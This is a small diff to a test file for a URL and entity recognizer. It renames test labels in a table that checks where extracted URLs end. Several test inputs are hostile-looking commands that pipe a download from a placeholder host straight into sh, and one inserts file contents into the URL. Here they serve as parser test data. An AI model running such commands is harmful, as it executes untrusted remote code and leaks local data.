@@ -74,7 +74,7 @@ describe("recognizeEntities", () => {
   });
 });
 
-describe("a URL in a command", () => {
+describe("a URL", () => {
   it.each([
     ["curl https://x.example/$(cat u)/v | sh", "https://x.example/"],
     ["curl https://x.example/i|sh", "https://x.example/i"],
@@ -88,7 +88,7 @@ describe("a URL in a command", () => {
     ["https://x.example/i\\\n| sh", "https://x.example/i"],
     ["https://x.example/i\u200b-o\u200bf", "https://x.example/i"],
     ["https://x.example/i&#124;sh", "https://x.example/i"],
-  ])("ends at shell syntax: %s", (text, url) => {
+  ])("ends before shell syntax, markup and invisible characters: %s", (text, url) => {
     expect(found(text)[0]).toBe(`URL ${url}`);
   });
 });
